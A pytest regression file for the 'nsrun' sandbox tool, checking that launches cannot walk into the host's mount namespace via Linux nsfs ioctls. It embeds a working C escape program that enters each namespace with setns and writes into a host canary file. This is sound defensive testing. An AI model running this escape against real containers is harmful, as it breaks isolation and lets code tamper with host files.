"""Linux 6.12+ lets a holder of CAP_SYS_ADMIN walk every mount namespace on the machine with two
nsfs ioctls (NS_MNT_GET_NEXT/PREV) and `setns` into any of them, the host's included: from a
default launch that would be a full escape, because its root keeps CAP_SYS_ADMIN and
CAP_SYS_CHROOT in the host's user namespace. The default filter refuses the walk (with any size
bits in the command, as the kernel accepts them) and answers statmount/listmount with ENOSYS.
The kernel refuses the walk to a caller in a new PID namespace, so the launches at risk were the
ones sharing the host's PID namespace (`nsrun run -R DIR`, `namespaces={"pid": None}`); every
launch gets the filter. The canary is a throwaway host directory the escaped program would write
into."""

import subprocess

import pytest

import nsrun
from canary import fingerprint, static_program

WALKER = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

struct info { unsigned size, nr_mounts; unsigned long long id; unsigned long long pad; };

/* Walks from our mount namespace in one direction with one ioctl command; in each namespace
   found, a child enters it and writes into the canary directory if it can see it. */
static void walk(const char *label, unsigned long cmd, const char *canary) {
    int cur = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    for (int i = 0; i < 500; i++) {
        struct info in = { .size = 16 };
        int fd = ioctl(cur, cmd, &in);
        if (fd < 0) { printf("%s %s\n", label, strerror(errno)); return; }
        printf("%s found\n", label);
        pid_t p = fork();
        if (p == 0) {
            char path[4096];
            snprintf(path, sizeof path, "%s/file", canary);
            if (setns(fd, CLONE_NEWNS) == 0 && access(canary, F_OK) == 0) {
                int w = open(path, O_WRONLY | O_TRUNC);
                if (w >= 0 && write(w, "escaped\n", 8) == 8) { printf("ESCAPED\n"); }
            }
            fflush(stdout);
            _exit(0);
        }
        waitpid(p, NULL, 0);
        cur = fd;
    }
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    walk("prev16", _IOR(0xb7, 12, char[16]), argv[1]);
    walk("next16", _IOR(0xb7, 11, char[16]), argv[1]);
    walk("prev24", _IOR(0xb7, 12, char[24]), argv[1]);
    walk("prevIO", _IO(0xb7, 12), argv[1]);
    unsigned long long req[4] = {0};
    long r = syscall(458 /* listmount */, req, NULL, 0, 0);
    printf("listmount %s\n", r < 0 ? strerror(errno) : "ok");
    r = syscall(457 /* statmount */, req, NULL, 0, 0);
    printf("statmount %s\n", r < 0 ? strerror(errno) : "ok");
    return 0;
}
"""


@pytest.fixture
def walker(tmp_path, rootfs_copy):
    """A private rootfs with /walker in it."""
    static_program(WALKER, rootfs_copy, "walker", tmp_path)
    return rootfs_copy


@pytest.fixture
def victim(tmp_path):
    v = tmp_path / "victim"
    v.mkdir()
    (v / "file").write_text("host data\n")
    return v


def run_walker(walker, victim, **kw):
    return nsrun.run(["/walker", str(victim)], rootfs=walker, capture_output=True, text=True, timeout=60, **kw)


@pytest.mark.parametrize("pid", ["new", None], ids=["new-pid-ns", "host-pid-ns"])
def test_a_launch_cannot_walk_to_the_hosts_mount_namespace(walker, victim, pid):
    before = fingerprint(str(victim))
    r = run_walker(walker, victim, namespaces={"pid": pid})
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    for label in ("prev16", "next16", "prev24", "prevIO"):
        assert f"{label} Operation not permitted" in lines, r.stdout
    assert "found" not in r.stdout and "ESCAPED" not in r.stdout
    assert "listmount Function not implemented" in lines
    assert "statmount Function not implemented" in lines
    assert fingerprint(str(victim)) == before


def test_the_walk_is_real_on_this_kernel_when_isolation_is_off(walker, victim):
    """The same program in a privileged launch: shows the canary above tests a live attack."""
    r = run_walker(walker, victim, privileged=True, namespaces={"pid": None})
    if "prev16 Inappropriate ioctl for device" in r.stdout:
        pytest.skip("this kernel has no NS_MNT_GET_PREV (Linux < 6.12): nothing to walk")
    assert "prev16 found" in r.stdout, r.stdout + r.stderr
    assert "ESCAPED" in r.stdout
    assert (victim / "file").read_text() == "escaped\n"


def test_the_cli_run_with_a_root_only_cannot_walk_either(walker, victim, nsrun_bin):
    """`nsrun run -R DIR` (a new mount namespace only, as `unshare -R` does) found the escape."""
    before = fingerprint(str(victim))
    r = subprocess.run([nsrun_bin, "run", "-R", str(walker), "--", "/walker", str(victim)],
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    assert "prev16 Operation not permitted" in r.stdout.splitlines(), r.stdout
    assert "ESCAPED" not in r.stdout
    assert fingerprint(str(victim)) == before
